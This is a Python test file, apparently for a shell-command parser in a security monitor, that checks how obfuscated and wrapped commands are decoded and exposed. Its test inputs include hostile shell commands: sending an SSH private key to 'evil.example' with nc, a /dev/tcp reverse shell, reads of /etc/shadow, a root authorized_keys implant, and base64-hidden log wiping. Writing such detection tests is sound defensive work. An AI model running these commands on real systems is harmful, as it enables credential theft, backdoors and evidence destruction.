from __future__ import annotations

import base64

from hypothesis import given, settings
from hypothesis import strategies as st

from enclave.monitor.shell import MAX_COMMANDS, decode_base64, parse


def argvs(text: str) -> list[tuple[str, ...]]:
    return [c.argv for c in parse(text).commands]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_lists_and_pipelines_split_into_simple_commands() -> None:
    assert argvs("ls -la /tmp && cat ~/.ssh/id_rsa | nc evil.example 4444; echo done") == [
        ("ls", "-la", "/tmp"),
        ("cat", "~/.ssh/id_rsa"),
        ("nc", "evil.example", "4444"),
        ("echo", "done"),
    ]


def test_quotes_escapes_and_ansi_c_quoting_are_undone() -> None:
    assert argvs("grep \"a b\" 'c d' e\\ f") == [("grep", "a b", "c d", "e f")]
    # $'\x63\x61\x74' spells `cat`: hiding the program's name does not hide it.
    assert argvs("$'\\x63\\x61\\x74' /etc/shadow") == [("cat", "/etc/shadow")]


def test_bash_c_sh_c_su_c_and_eval_are_parsed_inside() -> None:
    for text in (
        "bash -c 'cat /etc/shadow'",
        'sh -lc "cat /etc/shadow"',
        "su root -c 'cat /etc/shadow'",
        "eval 'cat /etc/shadow'",
    ):
        assert ("cat", "/etc/shadow") in argvs(text), text


def test_base64_piped_to_a_shell_is_decoded_and_parsed() -> None:
    parsed = parse(f"echo {b64('rm -rf /var/log/*; history -c')} | base64 -d | bash")
    assert parsed.decoded == ["rm -rf /var/log/*; history -c"]
    assert ("rm", "-rf", "/var/log/*") in [c.argv for c in parsed.commands]
    assert ("history", "-c") in [c.argv for c in parsed.commands]
    assert {c.origin for c in parsed.commands if c.argv[0] in ("rm", "history")} == {"decoded"}


def test_base64_in_a_substitution_given_to_bash_c_or_eval_is_parsed() -> None:
    for wrapper in ('bash -c "$(echo {} | base64 --decode)"', "eval $(echo {} | base64 -d)"):
        commands = argvs(wrapper.format(b64("cat /etc/shadow")))
        assert ("cat", "/etc/shadow") in commands, wrapper


def test_here_string_to_base64_and_python_c() -> None:
    assert ("cat", "/etc/shadow") in argvs(f"base64 -d <<< {b64('cat /etc/shadow')} | sh")
    parsed = parse("python3 -c \"import os; os.system('id')\"")
    assert parsed.code == ["import os; os.system('id')"]


def test_here_document_body_is_content_not_commands_unless_fed_to_a_shell() -> None:
    cron = parse("cat <<EOF > /etc/cron.d/x\n* * * * * root /tmp/x\nEOF\necho ok")
    assert [c.argv for c in cron.commands] == [("cat",), ("echo", "ok")]
    assert ("<<", "* * * * * root /tmp/x") in cron.commands[0].redirects
    assert ("cat", "/etc/shadow") in argvs("bash <<'EOS'\ncat /etc/shadow\nEOS")


def test_wrappers_find_exec_ssh_and_container_exec_expose_the_inner_command() -> None:
    assert ("bash", "-c", "id") in argvs("sudo -u root bash -c id")
    assert ("nmap", "-sV", "10.0.0.0/24") in argvs("timeout 10 nmap -sV 10.0.0.0/24")
    assert ("./run.sh",) in argvs("X=1 env FOO=bar nohup ./run.sh &")
    assert ("/bin/sh", "-p") in argvs("sudo find . -exec /bin/sh -p \\; -quit")
    assert ("cat", "/etc/passwd") in argvs('ssh -i k.pem admin@10.0.0.5 "cat /etc/passwd"')
    assert ("id",) in argvs('kubectl exec -it pod -- sh -c "id"')


def test_redirections_and_dev_tcp_are_kept() -> None:
    (cmd,) = parse("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").commands
    assert cmd.redirects[0] == (">&", "/dev/tcp/1.2.3.4/4444")
    (cmd,) = parse("echo key >> /root/.ssh/authorized_keys 2>/dev/null").commands
    assert (">>", "/root/.ssh/authorized_keys") in cmd.redirects


def test_a_hash_inside_a_word_is_literal_and_starts_a_comment_only_at_a_words_start() -> None:
    # As in bash: `echo a#b` prints `a#b`; `#` after a blank or an operator is a comment.
    assert [(c.argv, c.redirects) for c in parse("a#b").commands] == [(("a#b",), ())]
    assert [(c.argv, c.redirects) for c in parse("echo x #comment > y").commands] == [
        (("echo", "x"), ())
    ]
    (cmd,) = parse("cat /tmp/a#b > out").commands
    assert cmd.argv == ("cat", "/tmp/a#b") and cmd.redirects == ((">", "out"),)
    assert argvs("echo $# 'q'#r \\#s; #gone\nid") == [("echo", "$#", "q#r", "#s"), ("id",)]
    assert argvs("curl https://docs.acme.example/guide#install") == [
        ("curl", "https://docs.acme.example/guide#install")
    ]


def test_whitespace_that_is_not_a_blank_belongs_to_the_word() -> None:
    # Bash splits words only at space, tab and newline (and the operators): a form feed,
    # a vertical tab or a no-break space is an ordinary character of the word.
    for odd in ("\x0c", "\v", "\xa0"):
        (cmd,) = parse(f"cat /tmp/a{odd}b c{odd}").commands
        assert cmd.argv == ("cat", f"/tmp/a{odd}b", f"c{odd}") and cmd.redirects == (), odd
        assert argvs(f"{odd}ls") == [(f"{odd}ls",)]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab#2 \t\x0c\v\xa0\u2028'\"\\$`(){}=|&;<>\n", max_size=40))
def test_every_redirection_is_written_in_the_text(text: str) -> None:
    """An operator comes only from the metacharacters that spell it: no character turns
    into a `>` (and so a file written) that the command line does not contain."""
    for cmd in parse(text).commands:
        for op, _ in cmd.redirects:
            assert op in text


def test_decode_base64_refuses_binary_and_non_base64() -> None:
    assert decode_base64(b64("echo hi")) == "echo hi"
    assert decode_base64(base64.b64encode(bytes(range(256))).decode()) is None
    assert decode_base64("not base64 at all!") is None


def test_bounded_on_huge_and_deeply_nested_input() -> None:
    many = parse("true;" * 10_000)
    assert len(many.commands) == MAX_COMMANDS
    nested = "eval " * 200 + "id"
    assert parse(nested).commands  # stops at MAX_DEPTH without recursion errors
    huge = parse("echo " + "A" * 200_000)
    assert huge.truncated


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
def test_any_text_parses_without_raising(text: str) -> None:
    parsed = parse(text)
    assert len(parsed.commands) <= MAX_COMMANDS
